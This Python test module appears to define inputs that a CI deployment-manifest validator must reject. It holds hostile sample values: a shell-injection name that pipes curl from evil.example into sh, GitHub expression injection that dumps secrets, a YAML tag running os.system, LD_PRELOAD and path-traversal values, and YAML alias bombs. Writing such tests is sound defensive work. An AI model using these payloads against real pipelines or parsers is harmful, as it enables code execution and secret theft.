"""What is changed in a harmless manifest, and what must come of it.

A payload stands where the language has its nearest field, so that it is refused for what it is, and not because no such
key is known. Characters that do not show are written as escapes here.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import zip_longest
from pathlib import Path

HERE = Path(__file__).parent
APPLICATION = (HERE / "application.yaml").read_bytes()
DATA_TASK = (HERE / "data-task.yaml").read_bytes()

CREDENTIAL = "AKIA" + "IOSFODNN7EXAMPLE"
"""Put together here, so that no scanner takes this file for a leak."""


def changed(base: bytes, old: str, new: str | bytes) -> bytes:
    """The base with the one place that holds `old` changed; at its end where `old` is empty."""
    replacement = new.encode() if isinstance(new, str) else new
    if not old:
        return base + replacement
    assert base.count(old.encode()) == 1, f"{old!r} must stand in the base once"
    return base.replace(old.encode(), replacement)


@dataclass(frozen=True)
class Refused:
    """A change that makes errors of these rules, the first at the line of the change, with a message that `says` what.

    That is the field by its keys, where it could be read so far.
    """

    name: str
    old: str
    new: str | bytes
    rules: str
    says: str
    base: bytes = APPLICATION
    below: int = 0
    """How many lines further down it stands."""

    @property
    def data(self) -> bytes:
        """The manifest."""
        return changed(self.base, self.old, self.new)

    @property
    def line(self) -> int:
        """The first line that is not as it was, and so many below."""
        pairs = zip_longest(self.base.split(b"\n"), self.data.split(b"\n"))
        return self.below + next(number for number, (before, after) in enumerate(pairs, 1) if before != after)


def _of_task(name: str, old: str, new: str, rules: str, says: str) -> Refused:
    return Refused(name, old, new, rules, says, DATA_TASK)


# What is changed
VERSION, NAME, DESCRIPTION, REPOSITORY = "version: 1", "name: submit", '"Submit data"', "repository: acme/submit"
BRANCH, PYTHON, FOLDER, SUITE = "branch: main", 'python: "3.11"', "working-directory: src", '"make test"'
ENV, ARGUMENT, VARIABLE = 'GREETING: "hello"', 'TITLE: "hello"', 'WELCOME: "hello"'
DOCKERFILE, PORT, HEALTH = "dockerfile: Dockerfile", "port: 8080", "/health"
HOST, PATHS, COMMAND, SECRET = "submit.example.gov.uk", '["/*"]', '"app:app"', "- SENTRY_DSN"
CLUSTER, ALARMS, WORKSPACE, CHANNEL = '"<environment>-cluster"', "[http-5xx]", "T0123456", "C0123456"
PRODUCTION, ACCOUNT, REGION = "  production:", '"333333333333"', "eu-west-2\n    approval"
APPROVAL = "approval: {reviewers: [team/deployers]}"
END = ""

EXPRESSIONS = [
    Refused("in-a-name", NAME, 'name: "submit-${{ secrets.X }}"', "expression-in-text", "`name`"),
    Refused("in-a-description", DESCRIPTION, '"${{ toJSON(secrets) }}"', "expression-in-text", "`description`"),
    Refused("in-env", ENV, 'GREETING: "${{ github.head_ref }}"', "expression-in-text", "`test.env.GREETING`"),
    Refused("in-a-suite", SUITE, "\"pytest -k '${{ github.head_ref }}'\"", "expression-in-text", "`test.suites.unit`"),
    Refused("in-a-variable", VARIABLE, 'WELCOME: "${{ x }}"', "expression-in-text", "`service.variables.WELCOME`"),
    Refused("in-an-argument", ARGUMENT, 'TITLE: "${{ x }}"', "expression-in-text", "`image.build-args.TITLE`"),
    Refused("in-a-command", COMMAND, '"${{ x }}"', "expression-in-text", "`service.command`"),
    Refused(
        *("in-a-block", ENV, "GREETING: |\n      a\n      ${{ x }}", "expression-in-text", "`test.env.GREETING`"),
        below=2,
    ),
    Refused("escaped", ENV, r'GREETING: "$\x7b{ x }}"', "expression-in-text", "`test.env.GREETING`"),
    Refused("broken-in-two", ENV, 'GREETING: "$\\\n      {{ x }}"', "expression-in-text", "`test.env.GREETING`"),
    Refused("in-a-key", ENV, '"${{ x }}": y', "expression-in-text invalid-value", "`test.env.${{ x }}`"),
    Refused("of-cloudformation", VARIABLE, 'WELCOME: "{{resolve:ssm:x}}"', "expression-in-text", "WELCOME`"),
]

IDENTIFIERS = [
    Refused("newline", NAME, 'name: "submit\\npermissions: write-all"', "invalid-value", "`name`"),
    Refused("newline-at-the-end", NAME, 'name: "submit\\n"', "invalid-value", "`name`: `submit<U+000A>`"),
    Refused("shell", NAME, 'name: "submit; curl https://evil.example | sh"', "invalid-value", "`name`"),
    Refused("leading-dash", NAME, 'name: "--privileged"', "invalid-value", "`name`"),
    Refused("upper-case", NAME, "name: Submit_App", "invalid-value", "`name`"),
    Refused("too-long", NAME, f"name: {'a' * 65}", "invalid-value", "`name`"),
    Refused("wildcard", NAME, 'name: "*"', "invalid-value", "`name`"),
    Refused("markup", NAME, 'name: "[/red][link=https://evil.example]ok"', "invalid-value", "`[/red][link=https:"),
    Refused("environment-homoglyph", PRODUCTION, '  "pr\u043eduction":', "invalid-value", "U+043E is not ASCII"),
    Refused("environment-colon", PRODUCTION, '  "production:ref:refs/heads/main":', "invalid-value", "`production:ref"),
    Refused("environment-in-capitals", END, '  Production: {account: "4"}\n', "invalid-value", "`Production`"),
    Refused("repository-wildcard", REPOSITORY, 'repository: "acme/*"', "invalid-value", "`repository`"),
    Refused("repository-claim", REPOSITORY, "repository: acme/x:environment:y", "invalid-value", "`repository`"),
    Refused("repository-number", REPOSITORY, "repository: acme/submit@12345", "invalid-value", "`repository`"),
    Refused("repository-dots", REPOSITORY, "repository: acme/..", "invalid-value", "`repository`"),
    Refused("region-elsewhere", REGION, "evil.example\n    approval", "invalid-value", "production.region`"),
    Refused("reviewer", "team/deployers", '"*"', "invalid-value", "approval.reviewers`"),
    Refused("build-stage", DOCKERFILE, 'target: "--push"', "invalid-value", "`image.target`"),
    Refused("package-option", FOLDER, "system-packages: [-oX::y=z]", "invalid-value", "`test.system-packages`"),
    Refused("image-option", FOLDER, 'services: {a: {image: "--privileged x"}}', "invalid-value", "services.a.image`"),
    Refused("health-quotes", FOLDER, "services: {a: {health: 'x\" --privileged'}}", "invalid-value missing-key", "a"),
    Refused("platform-wildcard", CLUSTER, '"*"', "invalid-value", "`platform.cluster`"),
    Refused("platform-arn", CLUSTER, '"arn:aws:ecs:eu-west-2:1:cluster/x"', "invalid-value", "`platform.cluster`"),
    Refused("platform-placeholder", CLUSTER, '"<filled>"', "invalid-value", "`platform.cluster`"),
    Refused("alarm", ALARMS, '["http-5xx,other"]', "invalid-value", "`service.deployment.alarms`"),
    Refused("workspace", WORKSPACE, '"T0123456/x"', "invalid-value", "`notifications.slack.workspace`"),
    Refused("channel", CHANNEL, '"#general"', "invalid-value", "`notifications.slack.channel`"),
    Refused(
        "host-with-port",
        HOST,
        '"submit.example.gov.uk:22"',
        "invalid-value",
        "production.service.domain.host`",
    ),
    Refused("host-of-all", HOST, '"*"', "invalid-value", "production.service.domain.host`"),
    Refused("path-pattern", PATHS, '["/${x}"]', "invalid-value", "production.service.domain.paths`"),
    Refused("health-path", HEALTH, "'/health\"'", "invalid-value", "`service.health-check.path`"),
    _of_task("family", '"<environment>-collect"', '"*"', "invalid-value", "`task.family`"),
    _of_task("family-revision", '"<environment>-other"', '"other:7"', "invalid-value", "`task.families`"),
    _of_task("family-placeholder", '"<environment>-other"', '"<secret>"', "invalid-value", "`task.families`"),
    _of_task("container", "container: main", "container: main/x", "invalid-value", "`task.container`"),
    _of_task("topic", '"<environment>-deployments"', '"*"', "invalid-value", "`notifications.topic`"),
    _of_task("bucket-wildcard", "{secret: DAGS_BUCKET}", '"<environment>-*"', "invalid-value", "`files.bucket`"),
    _of_task("bucket-folder", "{secret: DAGS_BUCKET}", "other/dags", "invalid-value", "`files.bucket`"),
]

PATHS_AND_BRANCHES = [
    Refused("substitution", DOCKERFILE, 'dockerfile: "$(id)/Dockerfile"', "invalid-value", "`image.dockerfile`"),
    Refused("traversal", DOCKERFILE, 'dockerfile: "../../x/Dockerfile"', "invalid-value", "`image.dockerfile`"),
    Refused("traversal-inside", DOCKERFILE, "dockerfile: a/../../x", "invalid-value", "`image.dockerfile`"),
    Refused("url", DOCKERFILE, 'dockerfile: "https://evil.example/x"', "invalid-value", "`image.dockerfile`"),
    Refused("absolute", FOLDER, 'working-directory: "/etc"', "invalid-value", "`test.working-directory`"),
    Refused("home", FOLDER, 'working-directory: "~/x"', "invalid-value", "`test.working-directory`"),
    Refused("option", FOLDER, 'working-directory: "-x"', "invalid-value", "`test.working-directory`"),
    Refused("dot-git", FOLDER, 'working-directory: ".git/hooks"', "invalid-value", "`test.working-directory`"),
    Refused("dot-git-in-capitals", FOLDER, "working-directory: a/.GIT", "invalid-value", "`test.working-directory`"),
    Refused("device", FOLDER, "working-directory: a/nul.txt", "invalid-value", "`test.working-directory`"),
    Refused("everything", FOLDER, 'reports: {artifacts: {all: "."}}', "invalid-value", "`test.reports.artifacts.all`"),
    Refused("pattern-outside", FOLDER, 'reports: {junit: "*/../../x"}', "invalid-value", "`test.reports.junit`"),
    Refused("branch-pattern", BRANCH, 'branch: "**"', "invalid-value", "`branch`"),
    Refused("branch-expression", BRANCH, "branch: \"main' || '\"", "invalid-value", "`branch`"),
    Refused("branch-as-a-ref", BRANCH, "branch: refs/heads/main", "invalid-value", "`branch`"),
    _of_task("prefix-wildcard", "prefix: dags", 'prefix: "*"', "invalid-value", "`files.prefix`"),
    _of_task("prefix-traversal", "prefix: dags", 'prefix: "dags/../other"', "invalid-value", "`files.prefix`"),
    _of_task("prefix-empty-folder", "prefix: dags", "prefix: dags//other", "invalid-value", "`files.prefix`"),
    _of_task("whole-bucket", "  prefix: dags\n", "", "whole-bucket", "everything else in the bucket"),
    _of_task("exclude-option", '"*.pyc"', '"--delete"', "invalid-value", "`files.exclude`"),
]

TYPES = [
    Refused("account-in-octal-digits", ACCOUNT, "012345670123", "ambiguous-scalar", "production.account`"),
    Refused("account-of-eleven-digits", ACCOUNT, '"33333333333"', "invalid-value", "production.account`"),
    Refused("account-in-wide-digits", ACCOUNT, f'"{chr(0xFF13) * 12}"', "invalid-value", "production.account`"),
    Refused("python-3.1", PYTHON, "python: 3.10", "ambiguous-scalar", "`test.python`"),
    Refused("approval-yes", APPROVAL, "approval: yes", "wrong-type", "production.approval`"),
    Refused("port-in-base-60", PORT, "port: 22:22", "wrong-type", "`service.port`"),
    Refused("port-true", PORT, "port: true", "wrong-type", "`service.port`"),
    Refused("port-infinite", PORT, "port: .inf", "wrong-type", "`service.port`"),
    Refused("name-is-a-date", NAME, "name: 2026-11-23", "ambiguous-scalar invalid-value", "`name`"),
    Refused("version-of-later", VERSION, "version: 2", "unsupported-version", "it compiles version 1"),
    Refused("version-of-nothing", VERSION, "version:", "unsupported-version", "version"),
    _of_task("repository-id-quoted", "id: 12345,", 'id: "12345",', "wrong-type", "`repository.id`"),
    _of_task("repository-id-rounded", "id: 12345,", "id: 9007199254740993,", "invalid-value", "`repository.id`"),
    _of_task("repository-id-huge", "id: 12345,", f"id: 1{'0' * 5000},", "wrong-type", "`repository.id`"),
    _of_task("owner-id-negative", "owner-id: 678", "owner-id: -1", "wrong-type", "`repository.owner-id`"),
]

AUTHORITY = [
    Refused("unknown-key", END, "steps:\n  - uses: evil/action@main\n", "unknown-key", "`steps` is not a key"),
    Refused("misspelt", APPROVAL, "aproval: {reviewers: [x]}", "unknown-key", "did you mean `approval`?"),
    Refused("duplicate", END, '  production:\n    account: "9"\n', "duplicate-key", "`production` is stated twice"),
    Refused("duplicate-quoted", END, "'name': other\n", "duplicate-key", "`name` is stated twice"),
    Refused("approval-of-nothing", APPROVAL, "approval:", "wrong-type", "production.approval`"),
    Refused("approval-null", APPROVAL, "approval: ~", "wrong-type", "production.approval`"),
    Refused("approval-by-nobody", APPROVAL, "approval: {reviewers: []}", "invalid-value", "approval.reviewers`"),
    Refused("approval-empty", APPROVAL, "approval: {}", "missing-key", "production.approval`"),
    Refused("runner-of-somebody", BRANCH, "runner: self-hosted", "invalid-value", "`runner`"),
    Refused("kind-with-a-space", "kind: application", 'kind: "application "', "invalid-value", "is not a kind"),
]

SECRETS = [
    Refused("reserved", SECRET, "- GITHUB_TOKEN", "reserved-variable", "`GITHUB_TOKEN`"),
    Refused("reserved-of-aws", SECRET, "- AWS_SECRET_ACCESS_KEY", "reserved-variable", "`AWS_SECRET_ACCESS_KEY`"),
    Refused("another-arn", SECRET, '- "X:password::"', "invalid-value", "`service.secrets`"),
    Refused("another-folder", SECRET, "- ../OTHER", "invalid-value", "`service.secrets`"),
    Refused("in-plain", ENV, f'GREETING: "{CREDENTIAL}"', "secret-in-text", "`test.env.GREETING`"),
    Refused("in-a-variable", VARIABLE, f'WELCOME: "{CREDENTIAL}"', "secret-in-text", "`service.variables.WELCOME`"),
    Refused("in-a-word", COMMAND, f'"--key={CREDENTIAL}"', "secret-in-text", "`service.command`"),
    Refused("as-a-key", ENV, f'{CREDENTIAL}: "hello"', "secret-in-text", "`test.env.***`"),
    Refused("preload", ENV, 'LD_PRELOAD: "hello"', "reserved-variable", "`LD_PRELOAD`"),
    Refused("preload-of-a-container", VARIABLE, 'LD_PRELOAD: "hello"', "reserved-variable", "`LD_PRELOAD`"),
    Refused("path-in-another-case", ENV, 'Path: "hello"', "reserved-variable", "`Path`"),
    Refused("name-with-equals", ENV, '"A=B\\nC": "x"', "invalid-value", "`A=B<U+000A>C`"),
    _of_task("of-github", "DAGS_BUCKET", "GITHUB_TOKEN", "invalid-value", "`files.bucket.secret`"),
    _of_task("of-pipegen", "DAGS_BUCKET", "DEPLOY_AWS_SECRET_ACCESS_KEY", "invalid-value", "`files.bucket.secret`"),
    _of_task("of-terraform", "DAGS_BUCKET", "SOURCE", "invalid-value", "`files.bucket.secret`"),
    _of_task("all", "DAGS_BUCKET", '"toJSON(secrets)"', "invalid-value", "`files.bucket.secret`"),
]

CHARACTERS = [
    Refused("latin-1", DESCRIPTION, b'"Donn\xe9es"', "not-utf8", "0xE9"),
    Refused("overlong", DESCRIPTION, b'"\xc0\xaf"', "not-utf8", "0xC0"),
    Refused("nul", DESCRIPTION, b'"Submit\x00data"', "forbidden-character", "U+0000"),
    Refused("escaped-controls", DESCRIPTION, r'"\x1b[2J\x1b]0;owned\x07 \0"', "forbidden-character", "U+0000"),
    Refused("escaped-c1-control", VARIABLE, r'WELCOME: "\x9b2J"', "forbidden-character", "U+009B"),
    Refused("escaped-line-separator", ENV, r'GREETING: "a\Lb"', "forbidden-character", "U+2028"),
    Refused("bidi-override", DESCRIPTION, '"safe \u202e }}x{{$ \u202c"', "forbidden-character", "U+202E"),
    Refused("zero-width", NAME, 'name: "sub\u200bmit"', "forbidden-character", "U+200B"),
    Refused("second-byte-order-mark", NAME, "\ufeffname: submit", "forbidden-character", "U+FEFF"),
    Refused("lone-carriage-return", DESCRIPTION, '"a"\rrunner: x', "forbidden-character", "U+000D"),
    Refused("hidden-in-a-comment", DESCRIPTION, '"a" # \u2066', "forbidden-character", "U+2066"),
    Refused("tag-characters", SUITE, f'"make test{chr(0xE0041)}"', "forbidden-character", "U+E0041"),
]

YAML = [
    Refused("tab", "  " + FOLDER, "\t" + FOLDER, "yaml-syntax", "a tab"),
    Refused("anchor-and-merge", APPROVAL, "<<: &b {approval: 1}", "yaml-feature", "`&b`"),
    Refused("merge", APPROVAL, "<<: {approval: {reviewers: [x]}}", "yaml-feature", "merge key"),
    Refused("alias", APPROVAL, "approval: *nobody", "yaml-feature", "`*nobody`"),
    Refused("tag", DESCRIPTION, "!!python/object/apply:os.system [id]", "yaml-feature", "`!!python/object/"),
    Refused("tag-of-nothing", NAME, "name: ! submit", "yaml-feature", "`!`"),
    Refused("tag-in-full", NAME, "name: !<tag:yaml.org,2002:str> submit", "yaml-feature", "`!<tag:yaml.org"),
    Refused("directive", VERSION, "%YAML 1.1\n---\nversion: 1", "yaml-feature", "directive"),
    Refused("two-documents", END, "---\nversion: 1\nkind: application\n", "yaml-feature", "`---`"),
    Refused("key-that-is-a-list", END, "? [a]\n: b\n", "yaml-feature", "a key must be a plain word"),
]

# What a reviewer takes for a key of the language, and some program for a key of its own
KEYS = [
    Refused("homoglyph", APPROVAL, "\u0430pproval: {reviewers: [x]}", "unknown-key", "did you mean `approval`?"),
    Refused("with-a-space", APPROVAL, '"approval ": {reviewers: [x]}', "unknown-key", "did you mean `approval`?"),
    Refused("in-capitals", APPROVAL, "Approval: {reviewers: [x]}", "unknown-key", "did you mean `approval`?"),
    Refused("with-an-underscore", FOLDER, "working_directory: src", "unknown-key", "did you mean `working-directory`?"),
    Refused("escaped-twice", END, '"na\\x6de": other\n', "duplicate-key", "`name` is stated twice"),
    Refused("twice-in-flow", APPROVAL, "approval: {reviewers: [x], 'reviewers': []}", "duplicate-key", "`reviewers`"),
    Refused("of-the-model", END, "model_config: {extra: allow}\n", "unknown-key", "`model_config` is not a key"),
    Refused("of-every-object", END, "__class__: x\n", "unknown-key", "`__class__` is not a key"),
    Refused("a-number", END, "1: x\n", "unknown-key", "`1` is not a key"),
    Refused("a-truth-value", END, "true: x\n", "unknown-key", "`true` is not a key"),
    Refused("nothing", END, "? \n: x\n", "unknown-key", "`` is not a key"),
    Refused("too-long", END, f"{'k' * 2000}: x\n", "yaml-syntax", "this is not YAML"),
    Refused("too-long-to-show", END, f"? {'k' * 2000}\n: x\n", "unknown-key", f"`{'k' * 60}…` is not a key"),
    Refused("device", PRODUCTION, "  con:", "invalid-value", "the key `con`"),
    _of_task("field-of-the-model", "task:", "task_: {}\ntask:", "unknown-key", "did you mean `task`?"),
]

REFUSED = {
    f"{title}-{one.name}": one
    for title, table in (
        ("expression", EXPRESSIONS),
        ("identifier", IDENTIFIERS),
        ("path", PATHS_AND_BRANCHES),
        ("type", TYPES),
        ("authority", AUTHORITY),
        ("secret", SECRETS),
        ("character", CHARACTERS),
        ("yaml", YAML),
        ("key", KEYS),
    )
    for one in table
}

_BOMB = "x-a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"x-{name}: &{name} [{','.join([f'*{before}'] * 10)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
HEAVY: dict[str, tuple[bytes, str]] = {
    "alias-bomb": (_BOMB.encode() + APPLICATION, "an anchor (`&a`)"),
    "deep-lists": (b"x: " + b"[" * 200_000, "nested deeper than 32"),
    "deep-mappings": (b"x: " + b"{a: " * 60_000, "nested deeper than 32"),
    "deep-blocks": (b"- " * 100_000, "nested deeper than 32"),
    "deep-keys": (b"? " * 100_000, "nested deeper than 32"),
    "huge-scalar": (changed(APPLICATION, DESCRIPTION, f'"{"x" * 1_000_000}"'), "more than 262,144"),
    "many-nodes": (b"x: [" + b"a," * 100_000 + b"]", "more than 20,000 nodes"),
    "empty": (b"", "the manifest is empty"),
    "only-comments": (b"# name: submit\n", "the manifest is empty"),
    "utf-16": (APPLICATION.decode().encode("utf-16"), "0xFF is not UTF-8"),
    "compressed": (bytes.fromhex("1f8b0800") + b"\x00" * 1000, "0x8B is not UTF-8"),
}
"""Whole manifests, each refused at its first line with a message that says this."""

FLOODS: dict[str, tuple[bytes, str]] = {
    "variables": (
        changed(APPLICATION, VARIABLE, "\n    ".join(f"V{number}: v" for number in range(9000))),
        "`service.variables` has 9,000 items",
    ),
    "reserved-variables": (
        changed(APPLICATION, VARIABLE, "\n    ".join(f"AWS_{number}: v" for number in range(9000))),
        "`AWS_0` is a variable that belongs to",
    ),
    "families": (
        changed(DATA_TASK, '"<environment>-other"', ", ".join(["a"] * 15_000)),
        "`task.families` has 15,000 items",
    ),
    "environments": (
        APPLICATION + b"".join(b'  e%d: {account: "444444444444", after: e%d}\n' % (n, n + 1) for n in range(3000)),
        "`environments` has 3,003 items",
    ),
    "misspelt-keys": (
        APPLICATION + b"".join(b"environment%d: x\n" % number for number in range(9000)),
        "`environment0` is not a key",
    ),
}
"""Manifests within the limits of a file that make as much work as they can, and what is said of each first."""

_ODD_WORDS = "no 012 1e3 ~ 2026-11-23 1:30 0x1F << = !x &a *a #c @x %x ? | > ` [ { , null .nan 0b1 1_000 y -"
TEXTS = {
    "go-template": "{{ .Values.image }} and {% raw %}",
    "yaml": "hello\npermissions: write-all\n- uses: evil/x@main\n",
    "suppression": "fine # zizmor: ignore[unpinned-uses]",
    "quotes": 'it\'s "quoted" \\ back`tick` $HOME $(id) \\n',
    "interpolation": '${file("/etc/passwd")}',
    "directive": "%{ if true }x%{ endif }",
    "escaped-interpolation": "$${x} %%{x} $$${x} $",
    "heredoc-of-terraform": "<<-EOT\n${x}\nEOT\n",
    "format-of-python": "{} {0} {x!r} %s %(x)s {self.__class__}",
    "half-of-an-expression": "$ {{ x }} ${ { x } } $\u00a0{{",
    "heredoc": "x\nEOF\nLD_PRELOAD=/tmp/x.so\n",
    "state-machine": "{% $states.input %} States.Format('{}', $.x)",
    "placeholders": "<environment> <name> <secret> <+>",
    "workflow-command": "::stop-commands::x\n::add-mask::a\n##[error]x",
    "argument": "x\nOTHER=y --build-arg Z=1",
    "edges": " lead and trail \n",
    "blank-lines": "|\n  two\n three\n\n\n",
    "tabs": "\tx\n\ty",
    "beyond-ascii": "Données — naïve 数据 🚀",
    "list-item": "- x",
    "mapping": "a: b",
    "nothing": "",
} | {f"looks-like-{word}": word for word in _ODD_WORDS.split()}
"""Values that are data, and arrive as they are."""
